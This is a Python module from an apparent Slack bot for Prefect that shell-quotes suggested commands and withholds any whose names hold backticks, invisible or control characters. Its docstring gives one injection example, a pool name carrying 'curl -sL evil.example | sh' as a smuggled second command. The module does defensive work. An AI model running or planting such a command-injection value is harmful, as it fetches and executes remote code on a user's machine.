"""Commands the bot suggests, with live names in them: quoted for the shell, shown in a code span
nobody can leave.

A pool named `etl; curl -sL evil.example | sh` pasted into `prefect work-pool resume NAME` is a
second command; `shlex.quote` makes it one argument. A backtick ends a Slack code span and a line
break or an invisible character cannot be shown honestly in one, so a command with any of them is
not shown at all: the caller says to change the object by hand instead. Pure functions, no vendor
import, so every layer (detectors, diagnoses, offline fills, the verifier) uses the same rule.
"""

from __future__ import annotations

import re
import shlex
import unicodedata

from bot.safe_text import escape

__all__ = ["command", "command_or_note", "shell_line", "unshowable_reason"]

_INVISIBLE = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff\u00ad]")


def shell_line(*argv: object) -> str:
    """`argv` as one POSIX shell line: every word quoted where it needs to be."""
    return " ".join(shlex.quote(str(word)) for word in argv)


def unshowable_reason(*argv: object) -> str | None:
    """Why the command cannot be shown in a code span, or None."""
    for word in map(str, argv):
        if "`" in word:
            return "a backtick"
        if _INVISIBLE.search(word):
            return "an invisible character"
        if any(unicodedata.category(c) in ("Cc", "Zl", "Zp") for c in word):
            return "a line break or control character"
    return None


def command(*argv: object, escaped: bool = True) -> str | None:
    """The command as a code span (`escaped`: Slack's `&`, `<`, `>` as entities, for mrkdwn built
    directly; else for Markdown escaped later as a whole), or None when it cannot be shown safely."""
    if unshowable_reason(*argv) is not None:
        return None
    line = shell_line(*argv)
    return f"`{escape(line) if escaped else line}`"


def command_or_note(*argv: object, escaped: bool = True) -> str:
    """The command as a code span, or a note saying why none is shown."""
    shown = command(*argv, escaped=escaped)
    if shown is not None:
        return shown
    return (f"(no command shown: the name holds {unshowable_reason(*argv)}, which a command in a message "
            "cannot carry safely; use the Prefect UI)")
